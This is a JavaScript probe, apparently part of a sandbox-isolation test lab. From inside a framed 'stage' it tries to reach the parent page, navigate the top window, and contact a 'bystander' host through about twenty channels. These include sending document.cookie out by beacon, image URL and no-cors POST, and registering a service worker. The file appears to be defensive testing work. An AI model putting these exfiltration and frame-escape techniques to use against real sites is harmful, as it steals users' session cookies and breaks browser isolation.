// What a stranger's script would try from the stage if it ran there; the next step waits for it.
// ASKED: { page, stage, bystander, routes }

(() => {
  const { page, stage, bystander, routes } = ASKED;
  const told = {};
  const late = (milliseconds) => new Promise((_, reject) => { setTimeout(() => reject(new Error('late')), milliseconds); });
  const attempt = async (name, work) => {
    try { told[name] = `done: ${await Promise.race([work(), late(1500)])}`; } catch (error) { told[name] = 'refused'; }
  };
  const loads = (name, attributes) => new Promise((resolve, reject) => {
    const node = Object.assign(document.createElement(name), attributes);
    node.onload = () => resolve('loaded');
    node.onerror = reject;
    document.head.append(node);
  });
  const opens = (source, name) => new Promise((resolve, reject) => { source.addEventListener(name, resolve); source.onerror = reject; });
  const { fetch: real } = window;
  const check = JSON.stringify({ page: 'https://a.example', step: { api: 'fetch', url: `${bystander}/by-check`, method: 'POST', body: { kind: 'text', value: 'chosen' } } });
  const read = async (path, init) => (await real(page + path, init)).text();

  const all = [
    ...routes.flatMap(([method, path]) => {
      const body = method === 'POST' ? check : undefined;
      return [
        attempt(`${method} ${path}`, () => read(path, { method, body })),
        attempt(`${method} ${path} with a sign`, () => read(path, { method, body, headers: { 'x-crosscheck-lab': 'yes', 'content-type': 'application/json' } })),
        attempt(`${method} ${path} blindly`, () => real(page + path, { method, body, mode: 'no-cors', credentials: 'include' })),
      ];
    }),
    attempt('the page', () => read('/')),
    attempt('the page by script', () => loads('script', { src: `${page}/main.js` })),
    attempt('the page by picture', () => loads('img', { src: `${page}/wire?run=a` })),
    attempt('the page by style', () => loads('link', { rel: 'stylesheet', href: `${page}/style.css` })),
    attempt('the page by module', () => import(`${page}/ask.js`)),
    attempt('the document of the page', async () => parent.document.title),
    attempt('where the page is', async () => top.location.href),
    attempt('a name of the page', async () => top.document.querySelector('meta').outerHTML),
    attempt('a window', async () => { const opened = window.open(`${bystander}/by-window`); if (!opened) throw new Error('none'); }),
    attempt('the page elsewhere', async () => { top.location = `${bystander}/by-top`; await late(300); }),
    attempt('a domain for both', async () => { document.domain = 'localhost'; return top.document.title; }),
    attempt('another service', () => real(`${bystander}/by-fetch`)),
    attempt('another service blindly', () => real(`${bystander}/by-fetch`, { mode: 'no-cors', method: 'POST', body: document.cookie })),
    attempt('another service by XHR', () => { const request = new XMLHttpRequest(); request.open('GET', `${bystander}/by-xhr`); request.send(); return opens(request, 'load'); }),
    attempt('another service by picture', () => loads('img', { src: `${bystander}/by-picture?${document.cookie}` })),
    attempt('another service by script', () => loads('script', { src: `${bystander}/by-script` })),
    attempt('another service by style', () => loads('link', { rel: 'stylesheet', href: `${bystander}/by-style` })),
    attempt('another service by events', () => opens(new EventSource(`${bystander}/by-events`), 'open')),
    attempt('another service by socket', () => opens(new WebSocket(`${bystander.replace('http', 'ws')}/by-socket`), 'open')),
    attempt('another service by worker', () => { const worker = new Worker(URL.createObjectURL(new Blob([`fetch('${bystander}/by-worker'); postMessage(1)`]))); return opens(worker, 'message'); }),
    attempt('a service worker', () => navigator.serviceWorker.register('/perform.js')),
    attempt('another service by frame', () => loads('iframe', { src: `${bystander}/by-frame` }).then(() => late(300))),
    attempt('another service from a frame', async () => {
      const frame = document.createElement('iframe');
      document.body.append(frame);
      return frame.contentWindow.fetch(`${bystander}/by-empty-frame`, { mode: 'no-cors' });
    }),
    attempt('a redirect to another service', async () => { await real(new URL('away', document.currentScript.src)); throw new Error('by the lab'); }),
  ];
  navigator.sendBeacon(`${bystander}/by-beacon`, document.cookie);
  const form = Object.assign(document.createElement('form'), { action: `${bystander}/by-form`, method: 'post' });
  document.body.append(form);
  form.submit();
  for (const message of [{ ready: true }, { played: 'no-such-step', seen: {} }, null, 'played']) parent.postMessage(message, '*');

  // The next step of the scene is a fetch.
  window.fetch = async () => {
    await Promise.all(all);
    return new Response(JSON.stringify({ origin: self.origin, told }));
  };
})();
